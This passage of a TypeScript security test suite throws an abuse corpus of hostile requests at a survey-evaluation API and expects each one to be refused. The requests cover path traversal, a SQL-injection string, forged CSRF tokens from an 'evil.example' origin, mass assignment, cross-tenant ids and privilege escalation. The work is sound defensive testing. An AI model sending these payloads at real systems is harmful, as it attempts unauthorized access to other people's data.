    path: () => `/r/${s.volunteersToken.slice(0, -1)}${s.volunteersToken.endsWith('A') ? 'B' : 'A'}`,
    status: 404,
    code: 'link-invalid',
  },
  { category: 'tokens', name: 'a revoked link’s token', as: 'respondent', method: 'get', path: () => `/r/${s.revokedToken}`, status: 404, code: 'link-invalid' },
  { category: 'tokens', name: 'the old token of a renewed link', as: 'respondent', method: 'get', path: () => `/r/${s.renewedOldToken}`, status: 404, code: 'link-invalid' },
  { category: 'tokens', name: 'the token a reminder replaced', as: 'respondent', method: 'put', path: () => `/r/${s.remindedOldToken}/submissions/${randomUUID()}`, body: save({}), status: 404, code: 'link-invalid' },
  { category: 'tokens', name: 'a closed evaluation’s link', as: 'respondent', method: 'get', path: () => `/r/${s.closedToken}`, status: 404, code: 'link-invalid' },
  { category: 'tokens', name: 'a 10,000-character token', as: 'respondent', method: 'get', path: () => `/r/${'A'.repeat(10_000)}`, status: 404, code: 'link-invalid' },
  { category: 'tokens', name: 'a path-traversal token', as: 'respondent', method: 'get', path: () => '/r/..%2F..%2Fhealth', status: 404, code: 'link-invalid' },
  {
    category: 'tokens',
    name: 'the 31st failed look-up from one address in ten minutes',
    as: 'respondent',
    method: 'get',
    path: () => `/r/${randomToken()}`,
    prepare: async () => {
      for (let i = 0; i < 30; i += 1) expect((await t.client().get(`/r/${randomToken()}`)).status).toBe(404);
    },
    status: 429,
    code: 'too-many-attempts',
    check: async (res) => {
      expect(Number(res.headers['retry-after'])).toBeGreaterThan(0);
      // Good links still open from that address: only failures are limited.
      expect((await t.client().get(`/r/${s.volunteersToken}`)).status).toBe(200);
    },
  },
  { category: 'tokens', name: 'another link’s submission by its client id', as: 'respondent', method: 'get', path: () => `/r/${s.partnersToken}/submissions/${s.volunteerClientId}`, status: 404, code: 'not-found' },
  { category: 'tokens', name: 'a link token as a session cookie', as: 'anonymous', method: 'get', path: () => '/workspaces', headers: () => ({ Cookie: `regards_session=${s.volunteersToken}` }), status: 401, code: 'unauthenticated' },

  // ——— Mixed ids across workspaces and organizations ———
  { category: 'mixed ids', name: 'another workspace’s admin: their workspace, our organization and evaluation', as: 'adminB', method: 'get', path: () => ev(s.E, s.A1, s.B), status: 404, code: 'not-found' },
  { category: 'mixed ids', name: 'our organization with another organization’s evaluation', as: 'facilitator', method: 'get', path: () => ev(s.EA2, s.A1), status: 404, code: 'not-found' },
  { category: 'mixed ids', name: 'our organization with another workspace’s evaluation, moving its status', as: 'facilitator', method: 'post', path: () => `${ev(s.EB, s.A1)}/transitions`, body: () => ({ to: 'analysing' }), status: 404, code: 'not-found' },
  { category: 'mixed ids', name: 'revoking another evaluation’s link under ours', as: 'facilitator', method: 'post', path: () => `${ev()}/links/${s.linkA2}/revoke`, status: 404, code: 'not-found' },
  { category: 'mixed ids', name: 'excluding another workspace’s submission under our evaluation', as: 'facilitator', method: 'post', path: () => `${ev()}/submissions/${s.submissionB}/exclusion`, body: () => ({ reason: 'doublon' }), status: 404, code: 'not-found' },
  { category: 'mixed ids', name: 'a contact changing another organization’s evaluation', as: 'contactA1', method: 'patch', path: () => ev(s.EA2, s.A2), body: () => ({ dimensionKeys: ['utilite_economique'] }), status: 404, code: 'not-found' },
  { category: 'mixed ids', name: 'a contact of another organization reading the analysis', as: 'contactA2', method: 'get', path: () => `${ev()}/analysis`, status: 404, code: 'not-found' },
  { category: 'mixed ids', name: 'another workspace’s admin exporting with their workspace id', as: 'adminB', method: 'get', path: () => `${ev(s.E, s.A1, s.B)}/exports/submissions.csv`, status: 404, code: 'not-found' },
  {
    category: 'mixed ids',
    name: 'another workspace’s framework version',
    as: 'facilitator',
    method: 'post',
    path: () => `${org()}/evaluations`,
    body: () => newEvaluation({ frameworkVersionId: s.socleB.versionId }),
    status: 400,
    code: 'validation-failed',
    paths: ['frameworkVersionId'],
    errorCode: 'not-found',
  },
  { category: 'mixed ids', name: 'coding with another evaluation’s theme', as: 'facilitator', method: 'put', path: () => `${ev()}/verbatims/${s.verbatimId}/themes`, body: () => ({ themeIds: [s.otherThemeId] }), status: 400, code: 'validation-failed', paths: ['themeIds[0]'], errorCode: 'unknown-theme' },
  { category: 'mixed ids', name: 'choosing our verbatim through another evaluation', as: 'facilitator', method: 'put', path: () => `${ev(s.EA2, s.A2)}/verbatims/${s.verbatimId}/selection`, body: () => ({ reason: 'Un récit qui compte pour le rapport.' }), status: 404, code: 'not-found' },

  // ——— Mass assignment ———
  {
    category: 'mass assignment',
    name: 'workspaceId, id, status and createdBy on a new evaluation',
    as: 'facilitator',
    method: 'post',
    path: () => `${org()}/evaluations`,
    body: () => newEvaluation({ workspaceId: s.B, id: randomUUID(), status: 'closed', createdBy: randomUUID() }),
    status: 400,
    code: 'validation-failed',
    paths: ['workspaceId', 'id', 'status', 'createdBy'],
    errorCode: 'unknown-field',
  },
  { category: 'mass assignment', name: 'status and kThreshold: 1 on an update', as: 'facilitator', method: 'patch', path: () => ev(s.D), body: () => ({ status: 'closed', kThreshold: 1 }), status: 400, code: 'validation-failed', paths: ['status', 'kThreshold'] },
  { category: 'mass assignment', name: 'role and isPlatformAdmin on a contact’s design change', as: 'contactA1', method: 'patch', path: () => ev(s.D), body: () => ({ dimensionKeys: ['utilite_economique'], role: 'admin', isPlatformAdmin: true }), status: 400, code: 'validation-failed', paths: ['role', 'isPlatformAdmin'], errorCode: 'unknown-field' },
  { category: 'mass assignment', name: 'organizationId on an update', as: 'contactA1', method: 'patch', path: () => ev(s.D), body: () => ({ organizationId: s.A2 }), status: 400, code: 'validation-failed', paths: ['organizationId'], errorCode: 'unknown-field' },
  { category: 'mass assignment', name: 'evaluationId and createdBy on a theme', as: 'contactA1', method: 'post', path: () => `${ev()}/themes`, body: () => ({ label: 'Entraide', evaluationId: s.EA2, createdBy: randomUUID() }), status: 400, code: 'validation-failed', paths: ['evaluationId', 'createdBy'], errorCode: 'unknown-field' },
  { category: 'mass assignment', name: 'tokenHash and revokedAt on a link', as: 'facilitator', method: 'post', path: () => `${ev()}/links`, body: () => ({ groupKey: 'volunteers', kind: 'shared', tokenHash: '0'.repeat(64), revokedAt: null }), status: 400, code: 'validation-failed', paths: ['tokenHash', 'revokedAt'], errorCode: 'unknown-field' },
  {
    category: 'mass assignment',
    name: 'groupKey and evaluationId in a group change',
    as: 'facilitator',
    method: 'put',
    path: () => `${ev()}/groups/staff`,
    body: () => ({ expectedCount: 3, anonymity: 'confidential', groupKey: 'board', evaluationId: s.EA2 }),
    status: 400,
    code: 'validation-failed',
    paths: ['groupKey', 'evaluationId'],
    errorCode: 'unknown-field',
  },
  { category: 'mass assignment', name: 'code and status on a new session', as: 'facilitator', method: 'post', path: () => `${ev()}/sessions`, body: () => ({ groupKey: 'volunteers', code: 'AAAAAA', status: 'closed' }), status: 400, code: 'validation-failed', paths: ['code', 'status'], errorCode: 'unknown-field' },
  {
    category: 'mass assignment',
    name: 'selectedBy and selectedAt on a story choice',
    as: 'facilitator',
    method: 'put',
    path: () => `${ev()}/verbatims/${s.verbatimId}/selection`,
    body: () => ({ reason: 'Un récit qui compte pour le rapport.', selectedBy: people.contactA1.id, selectedAt: '2000-01-01T00:00:00Z' }),
    status: 400,
    code: 'validation-failed',
    paths: ['selectedBy', 'selectedAt'],
    errorCode: 'unknown-field',
  },
  {
    category: 'mass assignment',
    name: 'channel, submittedAt and excludedAt in a respondent’s save',
    as: 'respondent',
    method: 'put',
    path: () => `/r/${s.volunteersToken}/submissions/${randomUUID()}`,
    body: save({}, { channel: 'paper', submittedAt: '2000-01-01T00:00:00Z', excludedAt: null }),
    status: 400,
    code: 'validation-failed',
    paths: ['channel', 'submittedAt', 'excludedAt'],
    errorCode: 'unknown-field',
  },
  { category: 'mass assignment', name: 'an admin role in an organization invitation by its contact', as: 'contactA1', method: 'post', path: () => `${org()}/invitations`, body: () => ({ email: 'pirate@example.org', role: 'admin' }), status: 400, code: 'validation-failed', paths: ['role'] },

  // ——— CSRF ———
  { category: 'csrf', name: 'a status change with the session cookie and no token', as: 'facilitator', method: 'post', path: () => `${ev()}/transitions`, body: () => ({ to: 'analysing' }), csrf: 'missing', status: 403, code: 'csrf-failed' },
  { category: 'csrf', name: 'a design change with a forged token', as: 'contactA1', method: 'patch', path: () => ev(s.D), body: () => ({ kThreshold: 3 }), csrf: 'forged', status: 403, code: 'csrf-failed' },
  { category: 'csrf', name: 'a story choice with another session’s token', as: 'facilitator', method: 'delete', path: () => `${ev()}/verbatims/${s.verbatimId}/selection`, csrf: 'other-session', status: 403, code: 'csrf-failed' },
  {
    category: 'csrf',
    name: 'a cross-site request with the cookie and no token',
    as: 'facilitator',
    method: 'post',
    path: () => `${ev()}/themes`,
    body: () => ({ label: 'Piège' }),
    headers: () => ({ Origin: 'https://evil.example', 'Sec-Fetch-Site': 'cross-site' }),
    csrf: 'missing',
    status: 403,
    code: 'csrf-failed',
    check: (res) => expect(res.headers['access-control-allow-origin']).toBeUndefined(),
  },
  {
    category: 'csrf',
    name: 'a cross-site preflight is granted nothing',
    as: 'anonymous',
    method: 'options',
    path: () => `${ev()}/transitions`,
    headers: () => ({ Origin: 'https://evil.example', 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'x-csrf-token, content-type' }),
    status: 404,
    code: 'not-found',
    check: (res) => {
      expect(res.headers['access-control-allow-origin']).toBeUndefined();
      expect(res.headers['access-control-allow-credentials']).toBeUndefined();
    },
  },
  {
    category: 'csrf',
    name: 'a cross-site form post (text/plain) to the session join',
    as: 'anonymous',
    method: 'post',
    path: () => '/s/join',
    raw: () => '{"code":"AAAAAA"}',
    rawType: 'text/plain',
    headers: () => ({ Origin: 'https://evil.example' }),
    csrf: 'missing',
    status: 415,
    code: 'unsupported-media-type',
  },

  // ——— Privilege escalation ———
  { category: 'privilege', name: 'a viewer creating an evaluation', as: 'viewer', method: 'post', path: () => `${org()}/evaluations`, body: () => newEvaluation(), status: 403, code: 'forbidden' },
  { category: 'privilege', name: 'a viewer exporting', as: 'viewer', method: 'get', path: () => `${ev()}/exports/submissions.csv`, status: 403, code: 'forbidden' },
  { category: 'privilege', name: 'a viewer excluding a submission', as: 'viewer', method: 'post', path: () => `${ev()}/submissions/${s.submissionId}/exclusion`, body: () => ({ reason: 'doublon' }), status: 403, code: 'forbidden' },
  { category: 'privilege', name: 'a viewer changing the status', as: 'viewer', method: 'post', path: () => `${ev()}/transitions`, body: () => ({ to: 'analysing' }), status: 403, code: 'forbidden' },
  { category: 'privilege', name: 'a viewer inviting an admin', as: 'viewer', method: 'post', path: () => `${ws()}/invitations`, body: () => ({ email: 'pirate@example.org', role: 'admin' }), status: 403, code: 'forbidden' },
  { category: 'privilege', name: 'a facilitator inviting an admin', as: 'facilitator', method: 'post', path: () => `${ws()}/invitations`, body: () => ({ email: 'pirate@example.org', role: 'admin' }), status: 403, code: 'forbidden' },
  { category: 'privilege', name: 'a board member changing the status', as: 'boardA1', method: 'post', path: () => `${ev()}/transitions`, body: () => ({ to: 'analysing' }), status: 404, code: 'not-found' },
  { category: 'privilege', name: 'a board member exporting', as: 'boardA1', method: 'get', path: () => `${ev()}/exports/submissions.xlsx`, status: 404, code: 'not-found' },
  { category: 'privilege', name: 'a board member renaming the evaluation', as: 'boardA1', method: 'patch', path: () => ev(), body: () => ({ title: 'Renommée' }), status: 404, code: 'not-found' },
  { category: 'privilege', name: 'a board member adding a theme', as: 'boardA1', method: 'post', path: () => `${ev()}/themes`, body: () => ({ label: 'Conseil' }), status: 404, code: 'not-found' },
  { category: 'privilege', name: 'a board member reading verbatims beyond the chosen stories', as: 'boardA1', method: 'get', path: () => `${ev()}/verbatims`, status: 403, code: 'forbidden' },
  {
    category: 'privilege',
    name: 'a board member writing the report',
    as: 'boardA1',
    method: 'put',
    path: () => `${ev()}/report/sections/summary`,
    body: () => ({ baseVersion: s.summaryVersion, narrative: 'Réécrit par le conseil' }),
    prepare: async () => {
      s.summaryVersion = await summaryVersion();
    },
    status: 404,
    code: 'not-found',
  },
  { category: 'privilege', name: 'a contact changing k', as: 'contactA1', method: 'patch', path: () => ev(s.D), body: () => ({ kThreshold: 3 }), status: 403, code: 'forbidden' },
  { category: 'privilege', name: 'a contact inviting a workspace admin', as: 'contactA1', method: 'post', path: () => `${ws()}/invitations`, body: () => ({ email: 'pirate@example.org', role: 'admin' }), status: 404, code: 'not-found' },
  { category: 'privilege', name: 'a contact changing the status', as: 'contactA1', method: 'post', path: () => `${ev()}/transitions`, body: () => ({ to: 'analysing' }), status: 404, code: 'not-found' },
  { category: 'privilege', name: 'a contact exporting', as: 'contactA1', method: 'get', path: () => `${ev()}/exports/submissions.csv`, status: 404, code: 'not-found' },
  { category: 'privilege', name: 'a contact excluding a submission', as: 'contactA1', method: 'post', path: () => `${ev()}/submissions/${s.submissionId}/exclusion`, body: () => ({ reason: 'doublon' }), status: 404, code: 'not-found' },
  { category: 'privilege', name: 'a respondent reading the analysis', as: 'respondent', method: 'get', path: () => `${ev()}/analysis`, status: 401, code: 'unauthenticated' },
  { category: 'privilege', name: 'an anonymous caller creating an evaluation', as: 'anonymous', method: 'post', path: () => `${org()}/evaluations`, body: () => newEvaluation(), status: 401, code: 'unauthenticated' },

  // ——— Anonymity ———
  { category: 'anonymity', name: 'k = 2 on a new evaluation', as: 'facilitator', method: 'post', path: () => `${org()}/evaluations`, body: () => newEvaluation({ kThreshold: 2 }), status: 400, code: 'validation-failed', paths: ['kThreshold'], errorCode: 'min' },
  { category: 'anonymity', name: 'k = 2.5 on an update', as: 'facilitator', method: 'patch', path: () => ev(s.D), body: () => ({ kThreshold: 2.5 }), status: 400, code: 'validation-failed', paths: ['kThreshold'] },
  { category: 'anonymity', name: 'k = -5 on an update', as: 'facilitator', method: 'patch', path: () => ev(s.D), body: () => ({ kThreshold: -5 }), status: 400, code: 'validation-failed', paths: ['kThreshold'], errorCode: 'min' },
  { category: 'anonymity', name: 'an anonymous group made named while collecting', as: 'facilitator', method: 'put', path: () => `${ev()}/groups/partners`, body: () => ({ expectedCount: 5, anonymity: 'named' }), status: 409, code: 'evaluation-locked' },
  {
    category: 'anonymity',
    name: 'the whole analysis: all groups minus the visible ones',
    as: 'boardA1',
    method: 'get',
    path: () => `${ev()}/analysis`,
    status: 200,
    check: (res) => {
      const payload = res.body as AnalysisPayload;
      expect(payload.participation.find((p) => p.groupKey === 'partners')).toMatchObject({ submitted: 2, suppressed: true });
      expectNothingRecoverable(payload, 5);
      for (const row of figureRows(payload)) if (row.cells['partners']) expect(row.cells['partners'].suppressed).toBe(true);
    },
  },
  {
    category: 'anonymity',
    name: 'the analysis filtered on the group under k',
    as: 'boardA1',
    method: 'get',
    path: () => `${ev()}/analysis?groupKey=partners`,
    status: 200,
    check: (res) => {
      const payload = res.body as AnalysisPayload;
      expectNothingRecoverable(payload, 5);
      expectSameCells(payload);
      expect(JSON.stringify(payload)).not.toContain(PARTNER_SECRET);
    },
  },
  {
    category: 'anonymity',
    name: 'the analysis filtered on the other group, to subtract it from all',
    as: 'contactA1',
    method: 'get',
    path: () => `${ev()}/analysis?groupKey=volunteers`,
    status: 200,
    check: (res) => {
      expectNothingRecoverable(res.body as AnalysisPayload, 5);
      expectSameCells(res.body as AnalysisPayload);
    },
  },
  { category: 'anonymity', name: 'two group filters at once', as: 'boardA1', method: 'get', path: () => `${ev()}/analysis?groupKey=partners&groupKey=volunteers`, status: 400, code: 'validation-failed', paths: ['groupKey'] },
  {
    category: 'anonymity',
    name: 'the CSV export of the anonymous group carries no identity',
    as: 'facilitator',
    method: 'get',
    path: () => `${ev()}/exports/submissions.csv?codes=true&locale=en&groupKey=volunteers`,
    download: true,
    status: 200,
    contentType: /^text\/csv/,
    check: async (res) => {
      const csv = await readCsvExport(res, ',');
      expect(csv.header.slice(0, 4)).toEqual(['submission_id', 'group', 'channel', 'submitted_at']);
      expect(csv.header.join('|')).not.toMatch(/respondent|name|email|ip|user_agent|client_id|link/i);
      expect(csv.rows).toHaveLength(FORMULAS.length);
      for (const row of csv.rows) expect(row[3]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    },
  },
  {
    category: 'anonymity',
    name: 'the XLSX export of the anonymous group carries no identity',
    as: 'facilitator',
    method: 'get',
    path: () => `${ev()}/exports/submissions.xlsx?locale=en&groupKey=volunteers`,
    download: true,
    status: 200,
    contentType: /^application\/vnd\.openxmlformats/,
    check: async (res) => {
      const sheet = (await readWorkbook(res.body as Buffer)).getWorksheet('Submissions')!;
      const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
      expect(header.slice(0, 4)).toEqual(['Submission ID', 'Group', 'Channel', 'Submitted (UTC)']);
      expect(header.join('|')).not.toMatch(/name|e-mail|address/i);
      for (let n = 2; n <= sheet.rowCount; n += 1) expect((sheet.getRow(n).getCell(4).value as Date).toISOString()).toMatch(/T00:00:00\.000Z$/);
    },
  },
  {
    category: 'anonymity',
    name: 'the verbatims of the group under k asked by group',
    as: 'contactA1',
    method: 'get',
    path: () => `${ev()}/verbatims?groupKey=partners`,
    status: 200,
    check: (res) => {
      expect(res.body).toMatchObject({ items: [], total: 0, hiddenGroups: expect.arrayContaining(['partners']) });
      expect(JSON.stringify(res.body)).not.toContain(PARTNER_SECRET);
    },
  },
  {
    category: 'anonymity',
    name: 'a search for the words of the group under k',
    as: 'facilitator',
    method: 'get',
    path: () => `${ev()}/verbatims?q=${encodeURIComponent('Vaubécourt')}`,
    status: 200,
    check: (res) => expect(res.body).toMatchObject({ items: [], total: 0 }),
  },
  { category: 'anonymity', name: 'choosing a verbatim of the group under k as a story', as: 'facilitator', method: 'put', path: () => `${ev()}/verbatims/${s.partnerAnswerId}/selection`, body: () => ({ reason: 'Un récit qui compte pour le rapport.' }), status: 409, code: 'conflict' },
  {
    category: 'anonymity',
    name: 'quotes and SQL wildcards in a verbatim search',
    as: 'facilitator',
    method: 'get',
    path: () => `${ev()}/verbatims?q=${encodeURIComponent("%' OR 1=1 --")}`,
    status: 200,
    check: (res) => expect(res.body).toMatchObject({ items: [], total: 0 }),
  },
  {
    category: 'anonymity',
    name: 'the anonymous group’s submissions: no name, days only',
    as: 'facilitator',
    method: 'get',
    path: () => `${ev()}/submissions?groupKey=volunteers`,
    status: 200,
    check: (res) => {
      const rows = res.body as Array<{ respondentName: string | null; startedAt: string; submittedAt: string }>;
      expect(rows).toHaveLength(FORMULAS.length);
      for (const row of rows) {
        expect(row.respondentName).toBeNull();
        expect(row.startedAt).toMatch(/T00:00:00\.000Z$/);
        expect(row.submittedAt).toMatch(/T00:00:00\.000Z$/);
      }
    },
  },
];

function clientOf(who: Who): ApiClient {
  return who === 'anonymous' || who === 'respondent' ? t.client() : people[who].client;
}

async function call(c: AbuseCase): Promise<Response> {
  const client = clientOf(c.as);
  const writes = c.method !== 'get' && c.method !== 'options';
  if (writes && client.csrfToken === undefined) await client.fetchCsrf();
  let req = client.agent[c.method](`/api/v1${c.path()}`);
  if (writes) {
    const sent =
      c.csrf === undefined ? client.csrfToken : c.csrf === 'forged' ? 'forged-csrf-token-'.repeat(3) : c.csrf === 'other-session' ? people.viewer.client.csrfToken : undefined;
    if (sent !== undefined) req = req.set('X-CSRF-Token', sent);
  }
  for (const [name, value] of Object.entries(c.headers?.() ?? {})) req = req.set(name, value);
  if (c.download) req = req.buffer(true).parse(binaryBody);
  if (c.raw) return req.set('Content-Type', c.rawType ?? 'application/json').send(c.raw());
  if (c.body) return req.send(c.body() as object);
  return req;
}

describe('abuse corpus: hostile input across the API', () => {
  beforeAll(async () => {
    smtp = await startMailCatcher();
    t = await startTestApp({ LOGIN_MAX_ATTEMPTS_PER_IP: '100000', SMTP_URL: smtp.url, PUBLIC_URL: 'https://regards.example.org', COOKIE_SECURE: 'false' });
    // Listening once on localhost spares supertest opening and closing a server for each of the many requests.
    await t.app.listen(0, '127.0.0.1');

    people.adminA = await createUser(t);
    s.A = await createWorkspace(t, people.adminA, 'Réseau A');
    for (const [who, role] of [
      ['facilitator', 'facilitator'],
      ['viewer', 'viewer'],
    ] as const) {
      people[who] = await createUser(t);
      await addMember(t, s.A, people[who], role);
    }
    const created = await people.facilitator.client.post(`${ws()}/organizations`, { name: HOSTILE.organization });
    expect(created.status).toBe(201);
    s.A1 = created.body.id as string;
    s.A2 = await createOrganization(t, s.A, 'Structure A2');
    for (const [who, organizationId, role] of [
      ['contactA1', s.A1, 'contact'],
      ['boardA1', s.A1, 'board'],
      ['contactA2', s.A2, 'contact'],
    ] as const) {
      people[who] = await createUser(t);
      await addOrganizationMember(t, s.A, organizationId, people[who], role);
    }
    people.adminB = await createUser(t);
    s.B = await createWorkspace(t, people.adminB, 'Réseau B');
    s.B1 = await createOrganization(t, s.B, 'Structure B1');
    s.socle = await socleCommun(people.facilitator.client, s.A);
    s.socleB = await socleCommun(people.adminB.client, s.B);

    // The evaluation under attack: six volunteers (anonymous) answered with formulas and markup, two partners (under k).
    const e = await collectingEvaluation(people.facilitator, s.A, s.A1, s.socle, {
      title: HOSTILE.title,
      groups: [
        { groupKey: 'volunteers', expectedCount: 10, anonymity: 'anonymous' },
        { groupKey: 'partners', expectedCount: 5, anonymity: 'anonymous' },
        { groupKey: 'staff', expectedCount: 3, anonymity: 'confidential' },
      ],
    });
    s.E = e.evaluation.id;
    const volunteers = await sharedLink(people.facilitator, ev(), 'volunteers');
    const partners = await sharedLink(people.facilitator, ev(), 'partners');
    s.volunteersToken = volunteers.token;
    s.partnersToken = partners.token;
    const spec = async (groupKey: string) => (await people.facilitator.client.get(`${ev()}/questionnaires/${groupKey}`)).body as Questionnaire;
    const volunteersSpec = await spec('volunteers');
    const partnersSpec = await spec('partners');
    for (const [index, formula] of FORMULAS.entries()) {
      const data = { ...filledData(volunteersSpec.survey, [index + 1, 3, 1, 4, 1, 5, 9, 2, 6]), [SCALE]: 4, [`${SCALE}-Comment`]: index === 0 ? HOSTILE.why : formula, [VOLUNTEER_TEXT]: index === 1 ? HOSTILE.verbatim : formula };
      const clientId = randomUUID();
      if (index === 0) s.volunteerClientId = clientId;
      const saved = await new Respondent(t).save(s.volunteersToken, clientId, { data, complete: true });
      expect({ status: saved.status, body: saved.status === 200 ? null : (saved.body as unknown) }).toEqual({ status: 200, body: null });
    }
    for (const index of [0, 1]) {
      const data = { ...filledData(partnersSpec.survey, [index + 2, 7, 1, 8]), [PARTNER_TEXT]: `${PARTNER_SECRET} ${index}` };
      expect((await new Respondent(t).save(s.partnersToken, randomUUID(), { data, complete: true })).status).toBe(200);
    }
    // Ids the cases aim at: a submission, a verbatim, an answer of the group under k, a session, a theme.
    const submissions = (await people.facilitator.client.get(`${ev()}/submissions?groupKey=volunteers`)).body as Array<{ id: string }>;
    s.submissionId = submissions[0]!.id;
    const listed = (await people.facilitator.client.get(`${ev()}/verbatims?groupKey=volunteers&limit=100`)).body as { items: Array<{ id: string; part: string; text: string }> };
    s.verbatimId = listed.items.find((item) => item.part === 'answer' && item.text === HOSTILE.verbatim)!.id;
    s.partnerAnswerId = (
      await t.dataSource.query<Array<{ id: string }>>(`SELECT id::text FROM answer WHERE evaluation_id = $1 AND group_key = 'partners' AND text_value IS NOT NULL ORDER BY id LIMIT 1`, [s.E])
    )[0]!.id;
    const session = await people.facilitator.client.post(`${ev()}/sessions`, { groupKey: 'volunteers', consensus: true });
    expect(session.status).toBe(201);
    s.sessionId = session.body.id as string;
    const theme = await people.contactA1.client.post(`${ev()}/themes`, { label: 'Réemploi' });
    expect(theme.status).toBe(201);
    s.themeId = theme.body.id as string;

    // Tokens that no longer open anything.
    const revoked = await sharedLink(people.facilitator, ev(), 'volunteers');
    expect((await people.facilitator.client.post(`${ev()}/links/${revoked.id}/revoke`)).status).toBe(200);
    s.revokedToken = revoked.token;
    const renewed = await personalLink(people.facilitator, ev(), 'staff', { label: 'Noa' });
    expect((await people.facilitator.client.post(`${ev()}/links/${renewed.id}/renew`)).status).toBe(201);
    s.renewedOldToken = renewed.token;
    const [reminded] = await makeLinks(people.facilitator, ev(), { groupKey: 'staff', kind: 'personal', respondents: [{ label: 'Lou', email: 'lou@example.org' }] });
    expect((await people.facilitator.client.post(`${ev()}/reminders`, { groupKey: 'staff' })).body).toMatchObject({ sent: 1, mailEnabled: true });
    s.remindedOldToken = reminded!.token;
    const closed = await collectingEvaluation(people.facilitator, s.A, s.A1, s.socle, { title: 'Évaluation close', groups: [{ groupKey: 'volunteers', expectedCount: 5, anonymity: 'anonymous' }] });
    s.closedToken = (await sharedLink(people.facilitator, closed.base, 'volunteers')).token;
    for (const to of ['analysing', 'reporting', 'closed']) expect((await people.facilitator.client.post(`${closed.base}/transitions`, { to })).status).toBe(200);

    // A draft the contact co-designs.
    s.D = (await collectingEvaluation(people.facilitator, s.A, s.A1, s.socle, { title: 'Brouillon co-construit', status: 'draft', groups: [{ groupKey: 'volunteers', expectedCount: 5, anonymity: 'anonymous' }] })).evaluation.id;

    // Records of another organization and of another workspace, for mixed ids.
    const a2 = await collectingEvaluation(people.facilitator, s.A, s.A2, s.socle, { title: 'Évaluation A2', groups: [{ groupKey: 'volunteers', expectedCount: 5, anonymity: 'anonymous' }] });
    s.EA2 = a2.evaluation.id;
    s.linkA2 = (await sharedLink(people.facilitator, a2.base, 'volunteers')).id;
    const otherTheme = await people.facilitator.client.post(`${a2.base}/themes`, { label: 'Ailleurs' });
    expect(otherTheme.status).toBe(201);
    s.otherThemeId = otherTheme.body.id as string;
    const b = await collectingEvaluation(people.adminB, s.B, s.B1, s.socleB, { title: 'Évaluation B', groups: [{ groupKey: 'volunteers', expectedCount: 5, anonymity: 'anonymous' }] });
    s.EB = b.evaluation.id;
    const paperB = await people.adminB.client.post(`${b.base}/paper-submissions`, { groupKey: 'volunteers', clientId: randomUUID(), data: {}, locale: 'fr' });
    expect(paperB.status).toBe(201);
    s.submissionB = paperB.body.id as string;

    const analysis = await people.facilitator.client.get(`${ev()}/analysis`);
    expect(analysis.status).toBe(200);
    fullAnalysis = analysis.body as AnalysisPayload;
  }, 120_000);

  afterAll(async () => {
    await t?.close();
    await smtp.close();
  });

  it('holds at least forty cases over every category, and checks the database as the shared fingerprint does', async () => {
    expect(await databaseChecksum(t)).toEqual(await databaseFingerprint(t));
    expect(cases.length).toBeGreaterThanOrEqual(40);
    expect(new Set(cases.map((c) => c.category)).size).toBe(12);
    expect(new Set(cases.map((c) => `${c.category}: ${c.name}`)).size).toBe(cases.length);
  });

  it.each(cases)('$category: $name', async (c) => {
    await forgetFailedLookups(t);
    await c.prepare?.();
    const before = await databaseChecksum(t);

    const res = await call(c);

    const type = String(res.headers['content-type'] ?? '');
    expect({ status: res.status, code: (res.body as { code?: string } | undefined)?.code }).toEqual({ status: c.status, code: c.code });
    expect(type).not.toMatch(/html/);
    if (c.code) {
      expect(type).toMatch(/^application\/problem\+json/);
      expect(res.body).toMatchObject({ type: `https://regards.coop/problems/${c.code}`, title: expect.any(String), status: c.status, detail: expect.any(String) });
      const errors = (res.body.errors ?? []) as Array<{ path: string; code: string; message: string }>;
      if (c.paths) {
        // Each expected path is named; an error may also name what lies under one of them.
        const named = [...new Set(errors.map((e) => e.path))];
        for (const path of c.paths) expect(named).toContain(path);
        for (const path of named) expect({ path, under: c.paths.some((p) => path === p || path.startsWith(`${p}.`) || path.startsWith(`${p}[`)) }).toEqual({ path, under: true });
      }
      for (const e of errors) expect(e.message).toEqual(expect.any(String));
      if (c.errorCode) {
        expect(errors.length).toBeGreaterThan(0);
        for (const e of errors) expect({ path: e.path, code: e.code }).toEqual({ path: e.path, code: c.errorCode });
      }
    } else {
      expect(type).toMatch(c.contentType ?? /^application\/json/);
    }
    await c.check?.(res);

    expect(await databaseChecksum(t)).toEqual(before);
    expect((await t.client().get('/health/ready')).status).toBe(200);
  });

  it('stored no prototype key anywhere, and a later write behaves normally', async () => {
    expect(await tablesHolding(t, 'polluted')).toEqual({});
    expect(await tablesHolding(t, '__proto__')).toEqual({});
    const theme = await people.contactA1.client.post(`${ev()}/themes`, { label: 'Après les attaques', color: 'green' });
    expect(theme.status).toBe(201);
    expect(Object.keys(theme.body as object).sort()).toEqual(['color', 'createdAt', 'description', 'id', 'label', 'verbatimCount']);
    const saved = await new Respondent(t).save(s.volunteersToken, randomUUID(), { data: { [SCALE]: 3 }, complete: false });
    expect(saved.body).toMatchObject({ status: 'partial' });
    expect(Object.keys(saved.body as object)).not.toContain('isAdmin');
  });
});
